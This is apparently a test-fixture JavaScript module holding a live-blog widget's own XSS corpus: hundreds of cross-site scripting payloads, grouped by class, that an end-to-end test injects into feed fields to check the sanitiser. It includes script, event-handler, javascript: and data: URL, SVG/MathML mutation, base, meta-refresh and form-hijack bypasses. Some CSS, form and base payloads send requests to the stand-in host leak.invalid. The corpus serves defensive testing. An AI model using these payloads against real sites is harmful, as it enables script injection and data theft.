// The project's own XSS corpus, written for this widget (docs/security.md, "The XSS corpus").
//
// Every payload is placed in every text field of a feed by tests/e2e/xss.test.mjs. `{N}` stands
// for the payload's number: a payload that runs calls the page's `xss(N)` (or, from a frame,
// `top.xss(N)`; from an opaque data: document, `parent.postMessage("xss:N", "*")`), so the test
// knows which one got through. Payloads that would load something instead point at the host
// `leak.invalid`, or navigate to `/news/navigated.html`, both of which the test watches for.
//
// One payload per line inside each `lines` block (written raw: backslashes are literal). Payloads
// that need control characters, backticks or `${` are written as ordinary strings after the block.

const lines = (block) => block.split("\n").filter((line) => line.length > 0);

/** The payloads, by class. */
export const CLASSES = [
  // ── Script elements: every spelling and loading route of <script> ──────────────────────────
  {
    name: "script elements",
    payloads: [
      ...lines(String.raw`
<script>xss({N})</script>
<SCRIPT>xss({N})</SCRIPT>
<ScRiPt>xss({N})</sCrIpT>
<script type="text/javascript">xss({N})</script>
<script type="module">xss({N})</script>
<script language="JavaScript">xss({N})</script>
<script defer>xss({N})</script>
<script nomodule>xss({N})</script>
<script/x>xss({N})</script>
<script src="data:text/javascript,xss({N})"></script>
<script src=data:,xss({N})></script>
<script/src="data:,xss({N})"></script>
<script async src="data:application/javascript,xss({N})"></script>
<script src=data:text/javascript;base64,eHNzKDAp></script>
<script>setTimeout("xss({N})", 200)</script>
<script>setTimeout(function () { xss({N}) }, 600)</script>
<script>window["x" + "ss"]({N})</script>
<script>Function("xss({N})")()</script>
<script>eval("xs" + "s({N})")</script>
<script>document.write("<img src=x onerror=xss({N})>")</script>
<script>new Image().src = "https://leak.invalid/{N}"; xss({N})</script>
<script type="importmap">{"imports": {"x": "data:text/javascript,xss({N})"}}</script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["https://leak.invalid/{N}"]}]}</script>
<script for="window" event="onload">xss({N})</script>
<scr<script>ipt>xss({N})</scr</script>ipt>
<<script>script>xss({N})<</script>/script>
<script>xss({N})//
<script>xss({N})<!--
<!--<script>xss({N})//--></script>
<p>Before <script>xss({N})</script> after</p>
<custom-tag><script>xss({N})</script></custom-tag>
<script>/* </script> */xss({N})</script>
`),
      "<script\n>xss({N})</script\n>",
      "<script\t>xss({N})</script>",
      "<script>`${xss({N})}`</script>",
    ],
  },

  // ── Event-handler attributes: load, error, focus, toggle, animation, pointer ─────────────
  {
    name: "event handlers",
    payloads: [
      ...lines(String.raw`
<img src=x onerror=xss({N})>
<img src="x" onerror="xss({N})">
<IMG SRC=x ONERROR=xss({N})>
<img src='x' onerror='xss({N})'>
<img src onerror=xss({N})>
<img src=/ onerror=xss({N})>
<img/src="x"/onerror=xss({N})>
<img src=x oNeRrOr=xss({N})>
<img src=x onerror=&#120;ss({N})>
<img src=x onerror=&#x78;&#x73;&#x73;&#x28;{N}&#x29;>
<img src=x onerror="setTimeout(xss, 300, {N})">
<img src=x:x onerror=javascript:xss({N})>
<img src=x onerror="this.onerror=null;xss({N})">
<img src="pic.svg" onload=xss({N})>
<img src=x onerror=xss({N}) alt="a harbour">
<img srcset=",,x" onerror=xss({N})>
<image src=x onerror=xss({N})>
<body onload=xss({N})>
<body onpageshow=xss({N})>
<body onfocus=xss({N})>
<frameset onload=xss({N})>
<input autofocus onfocus=xss({N})>
<input onblur=xss({N}) autofocus><input autofocus>
<select autofocus onfocus=xss({N})></select>
<textarea autofocus onfocus=xss({N})></textarea>
<keygen autofocus onfocus=xss({N})>
<button autofocus onfocus=xss({N})>b</button>
<details open ontoggle=xss({N})>
<details ontoggle=xss({N}) open><summary>more</summary>text</details>
<video src=x onerror=xss({N})></video>
<video><source onerror=xss({N})></video>
<audio src=x onerror=xss({N})></audio>
<video poster=x onloadstart=xss({N}) src=x></video>
<marquee onstart=xss({N})>news</marquee>
<p onmouseover=xss({N})>hover</p>
<a onclick=xss({N})>click</a>
<a href="https://news.example/" onclick="xss({N}); return false">link</a>
<strong onpointerover=xss({N})>x</strong>
<span tabindex=0 autofocus onfocusin=xss({N})>x</span>
<p tabindex=1 onfocus=xss({N}) autofocus>x</p>
<strong onanimationstart=xss({N}) style="animation-name:lb-pulse;animation-duration:1s">x</strong>
<em ontransitionend=xss({N}) style="transition:color 1ms">x</em>
<b onmouseenter=xss({N})>x</b>
<ol onscroll=xss({N})><li>x</li></ol>
<p popover id=pop onbeforetoggle=xss({N})>x</p>
<x onclick=xss({N})>custom</x>
<img src=x onerror=xss({N}) ONERROR=xss({N})>
<blockquote oncopy=xss({N})>quote</blockquote>
<a href="https://news.example/" onauxclick=xss({N})>x</a>
<h2 onwheel=xss({N})>x</h2>
`),
      "<img src=x onerror\t=xss({N})>",
      "<img src=x\nonerror=xss({N})>",
      "<img src=x\u000conerror=xss({N})>",
    ],
  },

  // ── javascript: URLs, bare (for URL fields) and in markup, with entity, case, whitespace and
  //    unicode obfuscation ────────────────────────────────────────────────────────────────
  {
    name: "javascript: URLs",
    payloads: [
      ...lines(String.raw`
javascript:xss({N})
JAVASCRIPT:xss({N})
JaVaScRiPt:xss({N})
 javascript:xss({N})
javascript:xss({N})//https://news.example/
javascript://news.example/%0axss({N})
javascript:void(xss({N}))
javascript:%78ss({N})
javascript:\u0078ss({N})
javascript:eval(atob("eHNzKDAp"))
<a href="javascript:xss({N})">x</a>
<a href=javascript:xss({N})>x</a>
<A HREF="JAVASCRIPT:xss({N})">x</A>
<a href="JaVaScRiPt:xss({N})">x</a>
<a href=" javascript:xss({N})">x</a>
<a href="&#106;avascript:xss({N})">x</a>
<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;xss({N})">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058xss({N})">x</a>
<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58xss({N})">x</a>
<a href="javascript&colon;xss({N})">x</a>
<a href="javascript&#58;xss({N})">x</a>
<a href="javascript&#0058;xss({N})">x</a>
<a href="jav&#x09;ascript:xss({N})">x</a>
<a href="jav&#x0A;ascript:xss({N})">x</a>
<a href="jav&#x0D;ascript:xss({N})">x</a>
<a href="java&Tab;script:xss({N})">x</a>
<a href="java&NewLine;script:xss({N})">x</a>
<a href="&#x20;javascript:xss({N})">x</a>
<a href="&#x01;javascript:xss({N})">x</a>
<a href="&#x0C;javascript:xss({N})">x</a>
<a href="javascript:&#x78;ss({N})">x</a>
<a href="javascript:%78%73%73({N})">x</a>
<a href="javascript:xss&lpar;{N}&rpar;">x</a>
<a href="javascript://%0Axss({N})">x</a>
<a href="javascript:'<img src=x onerror=xss({N})>'">x</a>
<a href="javascript:\u0078ss({N})">x</a>
<a href='javascript:xss({N})' target=_self>x</a>
<a href="https://news.example/" href="javascript:xss({N})">first href wins</a>
<a href="javascript:xss({N})" href="https://news.example/">first href wins</a>
<img src="javascript:xss({N})">
<img src=javascript:xss({N})>
<img dynsrc="javascript:xss({N})" lowsrc="javascript:xss({N})">
<a xlink:href="javascript:xss({N})">x</a>
<map name=m><area shape=rect coords=0,0,99,99 href=javascript:xss({N})></map><img usemap=#m src=pic.svg>
<q cite="javascript:xss({N})">q</q>
<blockquote cite=javascript:xss({N})>q</blockquote>
<a href="java&shy;script:xss({N})">x</a>
<a href="ｊａｖａｓｃｒｉｐｔ:xss({N})">fullwidth</a>
<a href="%6A%61%76%61%73%63%72%69%70%74:xss({N})">percent-encoded scheme</a>
<table background="javascript:xss({N})"><tr><td>x</td></tr></table>
`),
      "java\tscript:xss({N})",
      "java\nscript:xss({N})",
      "java\rscript:xss({N})",
      "\u0001javascript:xss({N})",
      "\u0000javascript:xss({N})",
      "\u00a0javascript:xss({N})",
      "javascript\u200b:xss({N})",
      "\u2028javascript:xss({N})",
      "\ufeffjavascript:xss({N})",
      "<a href=\"java\u0000script:xss({N})\">x</a>",
      "<a href=\"\u0001\u0002javascript:xss({N})\">x</a>",
    ],
  },

  // ── data: URLs: documents, scripts, SVG pictures, stylesheets ───────────────────────────
  {
    name: "data: URLs",
    payloads: [
      ...lines(String.raw`
data:text/html,<script>parent.postMessage("xss:{N}","*")</script>
data:text/html;base64,PHNjcmlwdD5wYXJlbnQucG9zdE1lc3NhZ2UoInhzczpiNjQiLCIqIik8L3NjcmlwdD4=
DATA:text/html,<script>parent.postMessage("xss:{N}","*")</script>
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.postMessage('xss:{N}','*')"/>
data:application/javascript,xss({N})
<a href="data:text/html,<script>opener.xss({N})</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucG9zdE1lc3NhZ2UoInhzczpiNjQiLCIqIik8L3NjcmlwdD4=">x</a>
<a href="&#100;ata:text/html,<script>parent.postMessage('xss:{N}','*')</script>">x</a>
<a href="da&#x09;ta:text/html,<script>parent.postMessage('xss:{N}','*')</script>">x</a>
<a href=" DaTa:text/html,<script>parent.postMessage('xss:{N}','*')</script>">x</a>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.postMessage(&quot;xss:{N}&quot;,&quot;*&quot;)'/>">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLnBvc3RNZXNzYWdlKCZxdW90O3hzczpiNjQmcXVvdDssJnF1b3Q7KiZxdW90OykiLz4=">
<img src="data:image/png;base64,iVBORw0KGgo=" onerror=xss({N})>
<img src=" data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<iframe src="data:text/html,<script>parent.postMessage('xss:{N}','*')</script>"></iframe>
<object data="data:text/html,<script>parent.postMessage('xss:{N}','*')</script>"></object>
<embed src="data:text/html,<script>parent.postMessage('xss:{N}','*')</script>">
<a href="data:,xss({N})">plain data</a>
<link rel=stylesheet href="data:text/css,*{background:url(https://leak.invalid/{N})}">
<a href="data&colon;text/html,<script>parent.postMessage('xss:{N}','*')</script>">x</a>
`),
      "da\nta:text/html,<script>parent.postMessage('xss:{N}','*')</script>",
      "\u0000data:text/html,<script>parent.postMessage('xss:{N}','*')</script>",
    ],
  },

  // ── vbscript: URLs (dead in Chromium, refused regardless) ───────────────────────────────
  {
    name: "vbscript: URLs",
    payloads: [
      ...lines(String.raw`
vbscript:xss({N})
VBScript:MsgBox({N})
<a href="vbscript:xss({N})">x</a>
<a href="VBSCRIPT:xss({N})">x</a>
<a href="vb&#x73;cript:xss({N})">x</a>
<a href="vbs&#x09;cript:xss({N})">x</a>
<a href="  vbscript:xss({N})">x</a>
<img src="vbscript:xss({N})">
`),
      "vb\tscript:xss({N})",
      "\u0001vbscript:xss({N})",
    ],
  },

  // ── SVG: scripts, animation, links, foreignObject, use, breaking out of foreign content ──
  {
    name: "SVG",
    payloads: [
      ...lines(String.raw`
<svg onload=xss({N})>
<svg/onload=xss({N})>
<SVG ONLOAD=xss({N})>
<svg xmlns="http://www.w3.org/2000/svg" onload="xss({N})"/>
<svg><script>xss({N})</script></svg>
<svg><script href="data:,xss({N})"/></svg>
<svg><script xlink:href="data:,xss({N})"></script></svg>
<svg><a xlink:href="javascript:xss({N})"><text x=20 y=20>x</text></a></svg>
<svg><a href="javascript:xss({N})"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=xss({N}) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=xss({N})>
<svg><a><animate attributeName=href values=javascript:xss({N}) /><text x=20 y=20>x</text></a></svg>
<svg><image href=x onerror=xss({N}) />
<svg><foreignObject><img src=x onerror=xss({N})></foreignObject></svg>
<svg><foreignObject><p>x</p><script>xss({N})</script></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='xss({N})'/></svg>#x"/></svg>
<svg><style>@import "https://leak.invalid/{N}";</style></svg>
<svg><title><img src=x onerror=xss({N})></title></svg>
<svg><desc><img src=x onerror=xss({N})></desc></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">xss({N})</handler></svg>
<svg><feImage href="javascript:xss({N})"/></svg>
<svg><discard onbegin=xss({N}) />
<svg><animatetransform onbegin=xss({N}) attributeName=transform>
<svg><iframe src=javascript:top.xss({N})></iframe></svg>
<svg><p><img src=x onerror=xss({N})></p></svg>
<svg><g><img src=x onerror=xss({N})></g></svg>
<svg><textarea><img src=x onerror=xss({N})></textarea></svg>
<svg><noscript><img src=x onerror=xss({N})></noscript></svg>
<p>text <svg width=10 height=10><circle r=5 onclick=xss({N}) /></svg> text</p>
`),
    ],
  },

  // ── MathML: integration points, links and styles inside math ────────────────────────────
  {
    name: "MathML",
    payloads: [
      ...lines(String.raw`
<math><mtext><img src=x onerror=xss({N})></mtext></math>
<math><mi xlink:href="javascript:xss({N})">x</mi></math>
<math href="javascript:xss({N})"><mtext>x</mtext></math>
<math><maction actiontype=statusline xlink:href=javascript:xss({N})>x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=xss({N})></annotation-xml></math>
<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>xss({N})</script></annotation-xml></semantics></math>
<math><style><img src=x onerror=xss({N})></style></math>
<math><script>xss({N})</script></math>
<math><a href="javascript:xss({N})">x</a></math>
<math><mtext><table><mglyph><style><img src=x onerror=xss({N})></style></mglyph></table></mtext></math>
<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=xss({N})>"></a></textarea></mtext></svg></mglyph></mi></math>
<math><mtext><h2><a><mglyph><svg><mtext><style><img src=x onerror=xss({N})></style></mtext></svg></mglyph></a></h2></mtext></math>
<math><mrow><mo onmouseover=xss({N})>+</mo></mrow></math>
<p>x <math display=block><mn onclick=xss({N})>1</mn></math> y</p>
`),
    ],
  },

  // ── Namespace confusion and mutation XSS: markup that means something else when parsed
  //    again, raw-text elements, comments, CDATA, foster parenting ──────────────────────────
  {
    name: "namespace confusion and mutation",
    payloads: [
      ...lines(String.raw`
<noscript><p title="</noscript><img src=x onerror=xss({N})>"></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss({N})>
<svg></p><style><a id="</style><img src=x onerror=xss({N})>">
<math><mtext><option><xy><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=xss({N})>">
<p title="</p><img src=x onerror=xss({N})>">x</p>
<img alt="<img src=x onerror=xss({N})>" src="pic.svg">
<a title="&lt;img src=x onerror=xss({N})&gt;" href="https://news.example/">x</a>
<abbr title="<script>xss({N})</script>">abbr</abbr>
<xmp><img src=x onerror=xss({N})></xmp>
<plaintext><img src=x onerror=xss({N})>
<noembed><img src=x onerror=xss({N})></noembed>
<noframes><img src=x onerror=xss({N})></noframes>
<iframe><img src=x onerror=xss({N})></iframe>
<textarea><img src=x onerror=xss({N})></textarea>
<title><img src=x onerror=xss({N})></title>
<style><img src=x onerror=xss({N})></style>
<listing><img src=x onerror=xss({N})></listing>
<table><img src=x onerror=xss({N})><tr><td>x</td></tr></table>
<table><td><a href=javascript:xss({N})>x</a></td></table>
<select><template><img src=x onerror=xss({N})></template></select>
<svg><style><img src=x onerror=xss({N})></style></svg>
<math><mtext><template><img src=x onerror=xss({N})></template></mtext></math>
<svg><![CDATA[><img src=x onerror=xss({N})>]]></svg>
<![CDATA[><img src=x onerror=xss({N})>]]>
<!--><img src=x onerror=xss({N})>-->
<!-- --!><img src=x onerror=xss({N})>-->
<?xml ><img src=x onerror=xss({N})>?>
<!DOCTYPE html><img src=x onerror=xss({N})>
<div id="</div><script>xss({N})</script>">x</div>
<svg><desc><svg><a><title><img src=x onerror=xss({N})></title></a></svg></desc></svg>
<svg:script>xss({N})</svg:script>
<html xmlns:x="http://www.w3.org/2000/svg"><x:svg onload=xss({N})></x:svg></html>
`),
      "<a href=\"https://news.example/\" title=\"`\"><img src=x onerror=xss({N})>",
    ],
  },

  // ── srcdoc, iframes, frames, objects, embeds, portals ──────────────────────────────────
  {
    name: "srcdoc and frames",
    payloads: [
      ...lines(String.raw`
<iframe srcdoc="<script>top.xss({N})</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=top.xss({N})&gt;"></iframe>
<iframe srcdoc='&#60;script&#62;top.xss({N})&#60;/script&#62;'></iframe>
<iframe srcdoc="<svg onload=top.xss({N})>"></iframe>
<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>top.xss({N})</script>"></iframe>
<iframe srcdoc="<a href=javascript:top.xss({N}) target=_top>x</a>"></iframe>
<iframe src="javascript:top.xss({N})"></iframe>
<iframe src=javascript:top.xss({N})>
<iframe src="/news/navigated.html?{N}" onload=xss({N})></iframe>
<iframe src="https://leak.invalid/{N}"></iframe>
<frameset><frame src="javascript:top.xss({N})"></frameset>
<frame src=javascript:top.xss({N})>
<object data="javascript:top.xss({N})"></object>
<object type="text/html" data="/news/navigated.html?{N}"></object>
<object><param name=src value=javascript:top.xss({N})></object>
<embed src="javascript:top.xss({N})">
<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.postMessage(&quot;xss:{N}&quot;,&quot;*&quot;)'/>">
<applet code="x" codebase="javascript:top.xss({N})"></applet>
<portal src="javascript:top.xss({N})"></portal>
<fencedframe src="https://leak.invalid/{N}"></fencedframe>
<p>text <iframe srcdoc="<script>top.xss({N})</script>"></iframe> text</p>
`),
    ],
  },

  // ── <base>: redirecting relative URLs or link targets ─────────────────────────────────
  {
    name: "base",
    payloads: [
      ...lines(String.raw`
<base href="https://leak.invalid/"><img src="hijack.png">
<BASE HREF="//leak.invalid/"><img src=hijack.png>
<base href=//leak.invalid/><a href="relative.html">x</a>
<base href="javascript:xss({N})//"><a href="x">x</a>
<base href="&#x6A;avascript:xss({N})//"><a href=x>x</a>
<base href="data:text/html,<script>xss({N})</script>/"><img src=a.png>
<base target="_top"><a href="/news/navigated.html?{N}">x</a>
<head><base href="https://leak.invalid/"></head><img src=p.png>
<svg><base href="https://leak.invalid/"/></svg><img src=p.png>
<template><base href="https://leak.invalid/"></template><img src=p.png>
`),
    ],
  },

  // ── <meta>: refresh navigation, cookies, policies, charsets ────────────────────────────
  {
    name: "meta refresh",
    payloads: [
      ...lines(String.raw`
<meta http-equiv="refresh" content="0;url=javascript:xss({N})">
<meta http-equiv="refresh" content="0; URL=/news/navigated.html?{N}">
<META HTTP-EQUIV="REFRESH" CONTENT="0;URL=data:text/html,<script>parent.postMessage('xss:{N}','*')</script>">
<meta http-equiv="refresh" content="1;url='https://leak.invalid/{N}'">
<meta http-equiv=refresh content="0,url=/news/navigated.html?{N}">
<meta http-equiv="refresh" content="0;url=&#106;avascript:xss({N})">
<meta http-equiv="refresh" content="0;url=vbscript:xss({N})">
<meta http-equiv="Set-Cookie" content="xss={N}">
<meta http-equiv="content-security-policy" content="script-src 'none'">
<meta name="referrer" content="unsafe-url">
<meta charset="utf-7">+ADw-script+AD4-xss({N})+ADw-/script+AD4-
<head><meta http-equiv="refresh" content="0;url=/news/navigated.html?{N}"></head>
<svg><meta http-equiv="refresh" content="0;url=/news/navigated.html?{N}"/></svg>
`),
    ],
  },

  // ── Forms: actions, formaction, autosubmitting controls, lures for the page's own form ──
  {
    name: "form actions",
    payloads: [
      ...lines(String.raw`
<form action="javascript:xss({N})"><input type=submit value=go></form>
<form action="/news/navigated.html" method=get><input name=n value={N}><button>go</button></form>
<form id=f{N}></form><button form=f{N} formaction="javascript:xss({N})">go</button>
<button formaction="javascript:xss({N})">go</button>
<form><button formaction=javascript:xss({N})>go</button></form>
<form><input type=image src=x formaction=javascript:xss({N}) onerror=xss({N})></form>
<form><input type=submit formaction="data:text/html,<script>parent.postMessage('xss:{N}','*')</script>"></form>
<isindex action="javascript:xss({N})" type=image>
<form action="https://leak.invalid/{N}" method=post><input name=secret value=x><input type=submit></form>
<form><textarea name=x>y</textarea><button formmethod=post formaction="/news/navigated.html?{N}">send</button></form>
<form action=javascript:xss({N})><input autofocus></form>
<input type=submit formaction=javascript:xss({N}) form=main>
<button form=main formaction="/news/navigated.html?{N}">hijack the page's form</button>
<form target=_top action="/news/navigated.html?{N}"><button>x</button></form>
<form><select name=x onchange=xss({N})><option>a</option></select></form>
<fieldset><legend onclick=xss({N})>x</legend></fieldset>
`),
    ],
  },

  // ── Templates, declarative shadow DOM, slots, client-side template syntax ─────────────
  {
    name: "templates",
    payloads: [
      ...lines(String.raw`
<template><img src=x onerror=xss({N})></template>
<template><script>xss({N})</script></template>
<template shadowrootmode="open"><img src=x onerror=xss({N})></template>
<div><template shadowrootmode=open><script>xss({N})</script></template></div>
<p><template shadowrootmode="closed"><slot></slot><img src=x onerror=xss({N})></template>x</p>
<template shadowroot=open><svg onload=xss({N})></svg></template>
<template><template><img src=x onerror=xss({N})></template></template>
<template id=t><img src=x onerror=xss({N})></template><svg><use href="#t"/></svg>
<slot name=x onslotchange=xss({N})></slot>
<template><style>@import "https://leak.invalid/{N}";</style></template>
{{constructor.constructor('xss({N})')()}}
{{xss({N})}}
<%= xss({N}) %>
#{xss({N})}
[[xss({N})]]
`),
      "${xss({N})}",
      "`${xss({N})}`",
    ],
  },

  // ── CSS: style elements and attributes, imports, url(), expression(), bindings, overlays,
  //    and the widget's own class names and ids ─────────────────────────────────────────
  {
    name: "CSS",
    payloads: [
      ...lines(String.raw`
<style>*{background:url(https://leak.invalid/{N})}</style>
<style>@import "https://leak.invalid/{N}";</style>
<style>@import url(javascript:xss({N}));</style>
<STYLE>@im\port'https://leak.invalid/{N}';</STYLE>
<style>@font-face{font-family:x;src:url(https://leak.invalid/{N})}p{font-family:x}</style>
<style>:host{display:none!important}.lb-update{display:none}</style>
<p style="background:url(https://leak.invalid/{N})">x</p>
<p style="background-image:url('javascript:xss({N})')">x</p>
<div style="width:expression(xss({N}))">x</div>
<p style=x:expr/**/ession(xss({N}))>x</p>
<p style="behavior:url(https://leak.invalid/{N}.htc)">x</p>
<p style="-moz-binding:url(https://leak.invalid/{N}.xml#x)">x</p>
<p style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</p>
<p style="bac&#x6B;ground:url(&#x68;ttps://leak.invalid/{N})">x</p>
<p style="background:u\rl(https://leak.invalid/{N})">x</p>
<p style="--x:url(https://leak.invalid/{N});background:var(--x)">x</p>
<div style="background:url(&quot;javascript:xss({N})&quot;)">x</div>
<img src=pic.svg style="width:expression(xss({N}))">
<link rel=stylesheet href="https://leak.invalid/{N}.css">
<link rel=import href="https://leak.invalid/{N}">
<link rel=preload as=image href="https://leak.invalid/{N}">
<link rel=prefetch href="https://leak.invalid/{N}">
<svg><style>*{background:url(https://leak.invalid/{N})}</style></svg>
<math><style>@import "https://leak.invalid/{N}";</style></math>
<p class="lb-frame" hidden>hidden by the widget's own class</p>
<span class="lb-badge">Key event</span> spoofed badge
<p id="lb-key-points-title" part="x" slot="y">stolen id</p>
<font color=red face="x" size=7>font</font>
<center>centred</center>
`),
    ],
  },

  // ── Broken, unclosed and pre-escaped markup; breakouts from contexts the widget never uses ─
  {
    name: "broken and unclosed markup",
    payloads: [
      ...lines(String.raw`
<img src=x onerror=xss({N})
<img src="x" onerror="xss({N})
<script>xss({N})
<a href="javascript:xss({N})
<a href=javascript:xss({N}) x
<img src=x onerror=xss({N})<!--
<img """><script>xss({N})</script>">
<img src=x onerror=xss({N}) / >
<<img src=x onerror=xss({N})>>
<iframe src=javascript:top.xss({N}) <
<p <img src=x onerror=xss({N})>>
</p><img src=x onerror=xss({N})>
</script><script>xss({N})</script>
"><script>xss({N})</script>
'><img src=x onerror=xss({N})>
--><img src=x onerror=xss({N})>
]]><img src=x onerror=xss({N})>
</textarea><img src=x onerror=xss({N})>
</title><script>xss({N})</script>
</style><img src=x onerror=xss({N})>
</noscript><img src=x onerror=xss({N})>
<b><i><u><a href="javascript:xss({N})">x
<ul><li><p>x<li><img src=x onerror=xss({N})></ul>
<table><tr><td><a href=javascript:xss({N})>x</table>
<p><p><p><p>deep<img src=x onerror=xss({N})
<a href=https://news.example/ <img src=x onerror=xss({N})>>x</a>
<a/href=javascript:xss({N})>x</a>
<img src=x onerror=xss({N})/>
&lt;script&gt;xss({N})&lt;/script&gt;
&lt;img src=x onerror=xss({N})&gt;
%3Cscript%3Exss({N})%3C/script%3E
\x3cscript\x3exss({N})\x3c/script\x3e
\u003cimg src=x onerror=xss({N})\u003e
<img src=x onerror=xss({N})></img></img></p></p></div>
`),
      "<img src=`x` onerror=xss({N})>",
      "<img src=x onerror=xss({N})\u0000>",
      "<scr\u0000ipt>xss({N})</scr\u0000ipt>",
      "<img src=x one\u0000rror=xss({N})>",
      "<img\u0000src=x onerror=xss({N})>",
    ],
  },

  // ── Breakouts aimed at attributes: plain-text fields become the widget's aria-label, alt
  //    and titles, so quotes must stay text ────────────────────────────────────────────
  {
    name: "attribute breakouts",
    payloads: [
      ...lines(String.raw`
" onmouseover="xss({N})
' onfocus='xss({N})' autofocus='
" autofocus onfocus="xss({N})" x="
"><img src=x onerror=xss({N})>
" style="position:fixed;inset:0" onmouseover="xss({N})
" src="javascript:xss({N})
"/><svg onload=xss({N})>
";xss({N});"
';xss({N});//
</a><img src=x onerror=xss({N})>
" id="lb-a" class="lb-key-event
&quot; onmouseover=&quot;xss({N})
`),
      "`><img src=x onerror=xss({N})>",
    ],
  },

  // ── DOM clobbering: names and ids that would shadow globals in a light DOM ──────────────
  {
    name: "DOM clobbering",
    payloads: [
      ...lines(String.raw`
<img name=xss src=pic.svg>
<a id=xss href="https://news.example/">x</a>
<form name=LiveBlog></form><img name=LiveBlog src=pic.svg>
<img name=getElementById src=pic.svg>
<a id=__xssHits>x</a><a id=__xssHits name=push href="https://news.example/">y</a>
<img name=cookie src=pic.svg>
<embed name=body>
<iframe name=xss></iframe>
`),
    ],
  },

  // ── Links: targets, opener, pings, downloads, tracking attributes ────────────────────────
  {
    name: "link attributes",
    payloads: [
      ...lines(String.raw`
<a href="https://news.example/" target="_top">x</a>
<a href="https://news.example/" target="_self" rel="opener">x</a>
<a href="https://news.example/" ping="https://leak.invalid/{N}">x</a>
<a href="https://news.example/" download>x</a>
<a href="https://news.example/" referrerpolicy=unsafe-url hreflang=x type="text/html">x</a>
<a href="mailto:desk@news.example?body=%3Cscript%3Exss({N})%3C/script%3E">mail</a>
<a href="https://news.example/" attributionsrc="https://leak.invalid/{N}">x</a>
<area href="https://news.example/" ping="https://leak.invalid/{N}">
`),
    ],
  },

  // ── Depth and size: nesting past the sanitiser's depth limit, long runs ──────────────────
  {
    name: "deep nesting",
    payloads: [
      "<div>".repeat(40) + "<script>xss({N})</script><img src=x onerror=xss({N})>",
      "<p><b><i>".repeat(20) + "<a href=javascript:xss({N})>deep</a>",
      "<ol><li>".repeat(30) + "<svg onload=xss({N})>",
      "<blockquote>".repeat(300) + "<img src=x onerror=xss({N})>",
      "<b>".repeat(3000) + "bold",
      "<a href=\"https://news.example/\">".repeat(50) + "links",
      "<table>".repeat(25) + "<img src=x onerror=xss({N})>",
      "<span>".repeat(30) + "<style>*{background:url(https://leak.invalid/{N})}</style>x",
    ],
  },
];

/** Every payload, numbered from 1 in the order above, with `{N}` replaced by its number. */
export function payloads() {
  let number = 0;
  return CLASSES.flatMap(({ name, payloads }) =>
    payloads.map((template) => {
      number += 1;
      return { number, kind: name, text: template.replaceAll("{N}", String(number)) };
    }));
}
